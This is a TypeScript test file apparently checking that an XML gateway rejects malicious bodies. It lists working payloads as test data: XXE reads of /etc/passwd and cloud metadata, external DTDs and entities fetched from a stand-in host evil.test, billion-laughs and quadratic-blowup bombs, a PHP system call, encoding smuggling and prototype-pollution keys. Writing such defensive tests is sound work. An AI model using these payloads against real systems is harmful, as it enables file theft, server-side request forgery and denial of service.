import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { type FrontDoor, forwarded, openFrontDoor, refused } from './front-door.ts'

let door: FrontDoor
beforeAll(async () => {
  door = await openFrontDoor()
})
afterAll(() => door.stop())
afterEach(async () => {
  expect((await door.ask('GET /health')).said, 'the gateway lives on').toBe('200 origin.answered')
})

const send = (body: string, type = 'application/xml') => door.ask('POST /xml', { Host: 'content.example.com', 'Content-Type': type }, body)
const note = (title: string) => `<note><title>${title}</title></note>`
const DOCTYPE = '400 validate.doctype'
const SYNTAX = '400 validate.body-syntax'

it('an honest document arrives byte for byte', async () => {
  const body = '<?xml version="1.0" encoding="UTF-8"?>\n<note><title>a &amp; b</title><tag>c</tag><tag><![CDATA[d]]></tag></note>\n'
  const outcome = await send(body)
  expect(outcome.said).toBe('200 origin.answered')
  expect(forwarded(outcome).body.toString()).toBe(body)
})

describe('entities', () => {
  const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  it.each([
    ['a file (XXE)', `<!DOCTYPE note [<!ENTITY x SYSTEM "file:///etc/passwd">]>${note('&x;')}`, DOCTYPE],
    ['an address', `<!DOCTYPE note [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>${note('&x;')}`, DOCTYPE],
    ['of parameters, out of band', `<!DOCTYPE note [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>${note('a')}`, DOCTYPE],
    ['a DTD elsewhere', `<!DOCTYPE note SYSTEM "http://evil.test/x.dtd">${note('a')}`, DOCTYPE],
    ['a public DTD', `<!DOCTYPE note PUBLIC "-//X//Y" "http://evil.test/x.dtd">${note('a')}`, DOCTYPE],
    ['a billion laughs', `<!DOCTYPE note [<!ENTITY l0 "lol">${laughs}]>${note('&l9;')}`, DOCTYPE],
    ['quadratic blowup', `<!DOCTYPE note [<!ENTITY x "${'a'.repeat(20_000)}">]>${note('&x;'.repeat(5000))}`, DOCTYPE],
    ['that refer to each other', `<!DOCTYPE note [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${note('&a;')}`, DOCTYPE],
    ['attributes by default', `<!DOCTYPE note [<!ATTLIST note admin CDATA "true">]>${note('a')}`, DOCTYPE],
    ['a DTD without end', '<!DOCTYPE note [<!ENTITY x "', DOCTYPE],
    ['a DTD in the middle', `<note><!DOCTYPE x><title>a</title></note>`, DOCTYPE],
    ['a DTD in small letters', `<!doctype note [<!entity x "a">]>${note('&x;')}`, SYNTAX],
    ['that nobody declared', note('&x;'), SYNTAX],
    ['of HTML', note('&nbsp;'), SYNTAX],
    ['named like a property', note('&__proto__;'), SYNTAX],
  ])('%s', async (_, body, said) => expect(await send(body)).toMatchObject(refused(said)))
})

describe('what another reader would see otherwise', () => {
  it.each([
    ['a comment in a text', note('adm<!-- -->in'), SYNTAX],
    ['an instruction in a text', note('adm<?x ?>in'), SYNTAX],
    ['a stylesheet', `<?xml-stylesheet type="text/xsl" href="http://evil.test/x.xsl"?>${note('a')}`, SYNTAX],
    ['PHP', note('<?php system("id") ?>'), SYNTAX],
    ['XML 1.1', `<?xml version="1.1"?>${note('a')}`, SYNTAX],
    ['an attribute twice', '<note a="1" a="2"/>', SYNTAX],
    ['two roots', note('a') + note('b'), SYNTAX],
    ['an unknown prefix', '<x:note/>', SYNTAX],
    ['a control character', note('&#1;'), SYNTAX],
    ['an element twice', '<note><title>a</title><title>b</title></note>', '400 validate.duplicate-key'],
    ['the prototype', '<note><__proto__><admin/></__proto__></note>', '400 validate.forbidden-key'],
    ['an element of another namespace', '<note><title xmlns="urn:x">a</title></note>', '422 validate.body'],
    ['an element of a namespace with a prefix', '<note xmlns:x="urn:x"><x:title>a</x:title></note>', '422 validate.body'],
    [
      'an inclusion',
      '<note><title>a</title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></note>',
      '422 validate.body',
    ],
    [
      'where a schema is',
      '<note xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://evil.test/x.xsd"><title>a</title></note>',
      '422 validate.body',
    ],
    ['what type it is', '<note><title xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="admin">a</title></note>', '422 validate.body'],
    ['an attribute that nobody lists', '<note admin="true"><title>a</title></note>', '422 validate.body'],
    ['text between elements', '<note>admin<title>a</title></note>', '422 validate.body'],
    ['elements in a text', note('a<b/>'), '422 validate.body'],
  ])('%s', async (_, body, said) => expect(await send(body)).toMatchObject(refused(said)))
})

describe('encodings', () => {
  const utf16 = (text: string) => Array.from(text, (char) => `${char}\0`).join('')
  it.each([
    ['UTF-16 with its mark', `\xff\xfe${utf16(note('a'))}`, '400 validate.encoding'],
    ['UTF-16 that hides a doctype', utf16(`<!DOCTYPE note>${note('a')}`), SYNTAX],
    ['UTF-16, declared', `<?xml version="1.0" encoding="UTF-16"?>${note('a')}`, '400 validate.encoding'],
    ['UTF-7 that hides a doctype', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE note+AD4-', '400 validate.encoding'],
    ['EBCDIC', '\x4c\x6f\xa7\x94\x93', '400 validate.encoding'],
    ['Latin-1', note('caf\xe9'), '400 validate.encoding'],
    ['Latin-1, declared', `<?xml version="1.0" encoding="ISO-8859-1"?>${note('a')}`, '400 validate.encoding'],
    ['a byte order mark', `\xef\xbb\xbf${note('a')}`, '400 validate.encoding'],
    ['overlong', note('\xc0\xbc'), '400 validate.encoding'],
  ])('%s', async (_, body, said) => expect(await send(body)).toMatchObject(refused(said)))

  it('another charset in the header', async () => {
    expect(await send(note('a'), 'application/xml; charset=utf-16')).toMatchObject(refused('415 validate.content-type'))
  })
})

describe('too much of it', () => {
  it.each([
    ['depth', '<a>'.repeat(9), '400 validate.depth'],
    ['depth, by far', '<a>'.repeat(20_000), '400 validate.depth'],
    ['elements', `<note>${'<tag/>'.repeat(100)}</note>`, '400 validate.body-limit'],
    ['elements, by far', `<note>${'<tag/>'.repeat(10_000)}</note>`, '400 validate.body-limit'],
    ['attributes', `<note ${Array.from({ length: 3000 }, (_, i) => `a${i}=""`).join(' ')}/>`, '400 validate.body-limit'],
    ['namespaces', `<note ${Array.from({ length: 2000 }, (_, i) => `xmlns:a${i}="u${i}"`).join(' ')}/>`, '400 validate.body-limit'],
    ['a name', `<${'a'.repeat(60_000)}/>`, '400 validate.body-limit'],
    ['a text', note('a'.repeat(60_000)), '422 validate.body'],
    ['references', note('&#65;'.repeat(12_000)), '422 validate.body'],
    ['a tag without end', `<note ${' '.repeat(60_000)}`, SYNTAX],
    ['CDATA without end', `<note><![CDATA[${']'.repeat(60_000)}`, SYNTAX],
    ['bytes', note('a'.repeat(66_000)), '413 validate.too-large'],
  ])('%s', async (_, body, said) => expect(await send(body)).toMatchObject(refused(said)))
})
